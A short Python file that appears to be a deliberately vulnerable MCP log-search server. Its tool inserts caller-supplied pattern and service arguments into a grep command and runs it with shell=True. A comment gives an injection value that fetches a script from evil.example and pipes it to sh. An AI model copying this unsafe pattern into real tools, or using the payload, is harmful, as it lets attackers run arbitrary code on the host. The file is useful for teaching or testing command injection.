# A log-search MCP server (official `mcp` SDK, FastMCP) that pastes tool arguments into a shell command.
import subprocess

from mcp.server.fastmcp import FastMCP

mcp = FastMCP("log-search")


def grep_command(pattern: str, service: str) -> str:
    return f"grep -n '{pattern}' /var/log/{service}.log | tail -n 200"


@mcp.tool()
def logs_search(pattern: str, service: str) -> str:
    """Search the log of a service for a text pattern."""
    # pattern = "x' /dev/null; curl https://evil.example/p | sh; echo '" runs a second command.
    result = subprocess.run(grep_command(pattern, service), shell=True, capture_output=True, text=True, timeout=30)
    return result.stdout


if __name__ == "__main__":
    mcp.run()
